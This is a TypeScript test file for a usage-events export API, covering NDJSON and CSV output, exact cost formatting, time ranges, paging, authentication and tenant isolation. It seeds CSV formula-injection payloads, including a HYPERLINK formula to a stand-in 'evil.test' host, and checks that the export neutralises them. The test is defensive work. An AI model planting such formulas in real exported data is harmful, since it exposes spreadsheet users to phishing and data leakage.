// GET /api/v1/events/export (issue 13 §3; docs/api.md "Exports"): the tenant's usage events as
// NDJSON objects and as CSV read back by a strict RFC 4180 reader, every stored column but the
// rollups' flag; money exact (cost_nano_usd the integer, cost_usd a nine-decimal string, null
// kept null); [from, to) on started_at; an export of several pages with ties on started_at
// across page boundaries complete and in order; formula cells neutralised; bad parameters
// named; no token refused; another tenant's events never in the answer.
import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { newRequestId } from "../../shared/ids.ts";
import type { UsageEvent } from "../../shared/usage.ts";
import { tenantDb, writeUsageEvents } from "../../workers/store/index.ts";
import { newTenant, worker, type Tenant } from "../helpers.ts";
import { usageEvent } from "../web/usage-support.ts";
import { EPOCH_2001, readCsv, readNdjson } from "./support.ts";

const YEAR_2001 = "from=2001-01-01&to=2002-01-01";
const FORMULA = '=HYPERLINK("http://evil.test/?x","click")';

const HEADER = [
  "tenant_id",
  "request_id",
  "started_at",
  "key_id",
  "provider",
  "model",
  "endpoint",
  "stream",
  "status",
  "outcome",
  "input_tokens",
  "cached_input_tokens",
  "cache_write_tokens",
  "output_tokens",
  "reasoning_tokens",
  "usage_source",
  "cost_nano_usd",
  "cost_usd",
  "unpriced",
  "price",
  "first_byte_ms",
  "total_ms",
  "dimensions",
];

async function body(res: Response): Promise<string> {
  const text = new TextDecoder().decode(await res.arrayBuffer());
  if (res.status !== 200) throw new Error(`${res.status} ${text.slice(0, 300)}`);
  return text;
}

/** What the export says of a stored event. */
function exported(tenantId: string, e: UsageEvent): Record<string, unknown> {
  const cost = e.costNanoUsd;
  return {
    tenant_id: tenantId,
    request_id: e.requestId,
    started_at: new Date(e.startedAt).toISOString(),
    key_id: e.keyId,
    provider: e.provider,
    model: e.model,
    endpoint: e.endpoint,
    stream: e.stream,
    status: e.status,
    outcome: e.outcome,
    input_tokens: e.usage.inputTokens,
    cached_input_tokens: e.usage.cachedInputTokens,
    cache_write_tokens: e.usage.cacheWriteTokens,
    output_tokens: e.usage.outputTokens,
    reasoning_tokens: e.usage.reasoningTokens,
    usage_source: e.usageSource,
    cost_nano_usd: cost,
    cost_usd: cost === null ? null : `${Math.floor(cost / 1e9)}.${String(cost % 1e9).padStart(9, "0")}`,
    unpriced: cost === null,
    price: e.price,
    first_byte_ms: e.firstByteMs,
    total_ms: e.totalMs,
    dimensions: e.dimensions,
  };
}

function byTime(x: UsageEvent, y: UsageEvent): number {
  return x.startedAt - y.startedAt || (x.requestId < y.requestId ? -1 : x.requestId > y.requestId ? 1 : 0);
}

describe("GET /api/v1/events/export", () => {
  let a: Tenant;
  let b: Tenant;
  let seeded: UsageEvent[];
  const special: Record<string, UsageEvent> = {};
  const HUGE_ID = newRequestId(EPOCH_2001 + 900_000);

  beforeAll(async () => {
    [a, b] = await Promise.all([newTenant({ providers: false }), newTenant({ providers: false })]);
    // 2,500 events on five instants: runs of equal started_at cross every page boundary.
    seeded = Array.from({ length: 2500 }, (_, i) =>
      usageEvent(a.tenantId, EPOCH_2001 + (i % 5) * 60_000, { costNanoUsd: 1000 + i }),
    );
    special.nano = usageEvent(a.tenantId, EPOCH_2001 + 600_000, { costNanoUsd: 1 });
    special.unpriced = usageEvent(a.tenantId, EPOCH_2001 + 600_001, { costNanoUsd: null });
    special.free = usageEvent(a.tenantId, EPOCH_2001 + 600_002, { costNanoUsd: 0, stream: true, firstByteMs: null });
    special.formula = usageEvent(a.tenantId, EPOCH_2001 + 600_003, {
      model: FORMULA,
      endpoint: "-5",
      provider: "-2+3",
      dimensions: { team: "@SUM(1+1)", "outlay-truncated": "true" },
      price: {
        source: "override",
        ref: "gpt-4o",
        input: "2.5",
        cachedInput: "1.25",
        cacheWrite: "2.5",
        output: "10",
      },
    });
    seeded.push(...Object.values(special));
    const db = tenantDb(env.DB, a.tenantId);
    for (let i = 0; i < seeded.length; i += 500) await writeUsageEvents(db, seeded.slice(i, i + 500));
    seeded.sort(byTime);
    // The largest cost an event holds exactly (a JS number; the consumer refuses a larger one).
    await writeUsageEvents(db, [
      {
        ...usageEvent(a.tenantId, EPOCH_2001 + 900_000, { costNanoUsd: Number.MAX_SAFE_INTEGER }),
        requestId: HUGE_ID,
      },
    ]);
    await writeUsageEvents(tenantDb(env.DB, b.tenantId), [
      usageEvent(b.tenantId, EPOCH_2001, { model: "tenant-b-model" }),
    ]);
  });

  it("answers every event as a JSON object, one a line, in (started_at, request_id) order", async () => {
    const res = await a.api(`/events/export?from=2001-01-01&to=2001-01-01T00:15:00Z`);
    const lines = readNdjson(await body(res));
    expect(res.headers.get("content-type")).toBe("application/x-ndjson");
    expect(res.headers.get("content-disposition")).toMatch(
      new RegExp(`^attachment; filename="outlay-events-${a.tenantId}-\\d{8}\\.ndjson"$`),
    );
    expect(lines.length).toBe(seeded.length);
    expect(lines).toEqual(seeded.map((e) => exported(a.tenantId, e)));
  });

  it("writes money exactly: the integer and a nine-decimal USD string, null when unpriced", async () => {
    const text = await body(await a.api(`/events/export?${YEAR_2001}`));
    const lines = readNdjson(text) as Record<string, unknown>[];
    const of = (e: UsageEvent | undefined) => lines.find((l) => l.request_id === e?.requestId);
    expect(of(special.nano)).toMatchObject({ cost_nano_usd: 1, cost_usd: "0.000000001", unpriced: false });
    expect(of(special.unpriced)).toMatchObject({ cost_nano_usd: null, cost_usd: null, unpriced: true });
    expect(of(special.free)).toMatchObject({ cost_nano_usd: 0, cost_usd: "0.000000000" });
    // Past 2^53 the line carries the stored digits, not a rounded double.
    expect(text).toContain('"cost_nano_usd":9007199254740991,"cost_usd":"9007199.254740991"');

    const rows = readCsv(await body(await a.api(`/events/export?${YEAR_2001}&format=csv`)));
    const row = (e: UsageEvent | undefined) => {
      const r = rows.find((x) => x[1] === e?.requestId) ?? [];
      return { nano: r[16], usd: r[17], unpriced: r[18] };
    };
    expect(row(special.nano)).toEqual({ nano: "1", usd: "0.000000001", unpriced: "false" });
    expect(row(special.unpriced)).toEqual({ nano: "", usd: "", unpriced: "true" });
    const huge = rows.find((x) => x[1] === HUGE_ID);
    expect([huge?.[16], huge?.[17]]).toEqual(["9007199254740991", "9007199.254740991"]);
  });

  it("answers CSV that reads back to the same events", async () => {
    const res = await a.api(`/events/export?from=2001-01-01&to=2001-01-01T00:15:00Z&format=csv`);
    const rows = readCsv(await body(res));
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(rows[0]).toEqual(HEADER);
    const numbers = new Set(["status", "input_tokens", "cached_input_tokens", "cache_write_tokens", "output_tokens"]);
    const back = rows.slice(1).map((cells) =>
      Object.fromEntries(
        HEADER.map((name, i) => {
          const cell = cells[i] ?? "";
          if (cell === "") return [name, null];
          if (name === "stream" || name === "unpriced") return [name, cell === "true"];
          if (name === "price" || name === "dimensions") return [name, JSON.parse(cell) as unknown];
          if (numbers.has(name) || name.endsWith("_ms") || name === "reasoning_tokens" || name === "cost_nano_usd") {
            return [name, Number(cell)];
          }
          // A neutralised formula cell reads back without its apostrophe.
          return [name, /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell];
        }),
      ),
    );
    expect(back).toEqual(seeded.map((e) => exported(a.tenantId, e)));
  });

  it("prefixes formula cells with an apostrophe and leaves plain numbers alone", async () => {
    const rows = readCsv(await body(await a.api(`/events/export?${YEAR_2001}&format=csv`)));
    const r = rows.find((x) => x[1] === special.formula?.requestId) ?? [];
    expect({ provider: r[4], model: r[5], endpoint: r[6] }).toEqual({
      provider: "'-2+3",
      model: `'${FORMULA}`,
      endpoint: "-5",
    });
    // JSON cells start with "{": a spreadsheet reads them as text, and they parse back unchanged.
    expect(JSON.parse(r[22] ?? "")).toEqual({ team: "@SUM(1+1)", "outlay-truncated": "true" });
    // NDJSON is data, not a spreadsheet: the value as stored.
    const lines = readNdjson(await body(await a.api(`/events/export?${YEAR_2001}`))) as Record<string, unknown>[];
    expect(lines.find((l) => l.request_id === special.formula?.requestId)?.model).toBe(FORMULA);
  });

  it("keeps [from, to) on started_at", async () => {
    const from = EPOCH_2001 + 60_000;
    const to = new Date(EPOCH_2001 + 180_000).toISOString();
    const lines = readNdjson(await body(await a.api(`/events/export?from=${from}&to=${to}`))) as {
      started_at: string;
    }[];
    expect(lines.length).toBe(1000);
    expect(new Set(lines.map((l) => l.started_at))).toEqual(
      new Set([new Date(from).toISOString(), new Date(from + 60_000).toISOString()]),
    );
  });

  it("refuses bad parameters with 400 naming the parameter", async () => {
    for (const [query, field] of [
      ["from=not-a-time", "from"],
      ["from=2026-02-02&to=2026-02-01", "to"],
      ["types=call.admitted", "types"],
      ["format=json", "format"],
    ] as const) {
      const res = await a.api(`/events/export?${query}`);
      const json = (await res.json()) as { error: { code: string; field: string } };
      expect({ query, status: res.status, code: json.error.code, field: json.error.field }).toEqual({
        query,
        status: 400,
        code: "bad_request",
        field,
      });
    }
  });

  it("refuses a request without a valid token with 401", async () => {
    expect((await worker("/api/v1/events/export?format=csv")).status).toBe(401);
    const res = await worker("/api/v1/events/export", { headers: { authorization: "Bearer ola_nope" } });
    expect(res.status).toBe(401);
  });

  it("never answers another tenant's events, whatever the query", async () => {
    for (const query of ["", YEAR_2001, "format=csv", `from=${EPOCH_2001}&to=${EPOCH_2001 + 1}`]) {
      const text = await body(await b.api(`/events/export?${query}`));
      expect({ query, leaked: text.includes(a.tenantId) || text.includes("gpt-4o") }).toEqual({
        query,
        leaked: false,
      });
    }
    const own = readNdjson(await body(await b.api("/events/export"))) as Record<string, unknown>[];
    expect(own.map((l) => [l.tenant_id, l.model])).toEqual([[b.tenantId, "tenant-b-model"]]);
  });
});
